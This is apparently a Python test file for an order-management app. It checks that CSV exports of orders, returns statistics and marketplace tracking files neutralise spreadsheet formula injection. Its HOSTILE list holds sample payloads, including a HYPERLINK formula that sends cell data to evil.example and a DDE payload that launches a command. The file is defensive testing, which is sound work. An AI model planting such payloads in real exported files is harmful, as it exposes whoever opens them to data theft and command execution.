"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP): the file
read back by a CSV parser has no cell starting with = + - @ tab or carriage return, and the
text is all there after the apostrophe."""

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import sqlalchemy as sa

from oms_desktop.connectors.dto import FulfilmentLine
from oms_desktop.connectors.files import FileConnector
from oms_desktop.demo.seed import seed_demo
from oms_desktop.model import Order, OrderTag
from oms_desktop.services.orders import queue
from oms_desktop.services.orders.queue import QueueFilter
from oms_desktop.services.returns import stats as return_stats
from oms_desktop.services.returns.stats import RateRow, ReturnStats

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cells(path: Path, **options) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, **options))


def assert_neutral(rows: list[list[str]], expected: list[str]) -> None:
    flat = [cell for row in rows for cell in row]
    assert not [c for c in flat if c.startswith(DANGEROUS)]
    assert {"'" + text for text in expected} <= set(flat)


def test_the_orders_export_neutralises_names_and_tags_that_came_from_a_channel(db, tmp_path):
    seed_demo(db, orders=20, seed=3, today=date.today())
    ids = [1, 2, 3, 4, 5, 6]
    with db.engine.begin() as conn:
        for order_id, text in zip(ids, HOSTILE):
            conn.execute(sa.update(Order).where(Order.id == order_id).values(ship_name=text))
        conn.execute(sa.insert(OrderTag).values(order_id=7, tag="@SUM(1+1)"))
    path = tmp_path / "orders.csv"

    written = queue.export_csv(db, QueueFilter(), path)

    rows = cells(path)
    assert written == len(rows) - 1 == 20
    assert_neutral(rows, HOSTILE)


def test_the_returns_analytics_export_neutralises_skus_and_reason_codes(tmp_path):
    result = ReturnStats(by_sku=[RateRow(HOSTILE[0], 10, 2), RateRow("SKU-OK", 5, 0)],
                         by_channel=[RateRow(HOSTILE[1], 10, 2)],
                         by_period=[RateRow("2026-11", 10, 2)],
                         by_reason={HOSTILE[3]: 2, "-2+3": 1}, reasons_by_condition={},
                         outliers=[])
    path = tmp_path / "returns.csv"

    return_stats.export_csv(result, path)

    rows = cells(path)
    assert_neutral(rows, [HOSTILE[0], HOSTILE[1], HOSTILE[3], "-2+3"])
    assert ["sku", "SKU-OK", "5", "0", "0.0000"] in rows


def test_a_marketplace_tracking_file_neutralises_a_carrier_name(tmp_path):
    inbox, outbox = tmp_path / "in", tmp_path / "out"
    inbox.mkdir(), outbox.mkdir()
    connector = FileConnector({"format": "amazon", "inbox": str(inbox),
                               "outbox": str(outbox)}, {})
    result = connector.push_fulfilment("902-3159896-1390916", lines=[FulfilmentLine("111", 2)],
                                       carrier=HOSTILE[2], tracking_number=HOSTILE[4])

    rows = cells(Path(result.reference), delimiter="\t")

    assert_neutral(rows, [HOSTILE[2], HOSTILE[4]])
    assert rows[1][0] == "902-3159896-1390916"


def test_numbers_stay_numbers():
    from oms_desktop.documents.csv_cells import safe_cell

    assert safe_cell(Decimal("-4.50")) == Decimal("-4.50") and safe_cell(-3) == -3
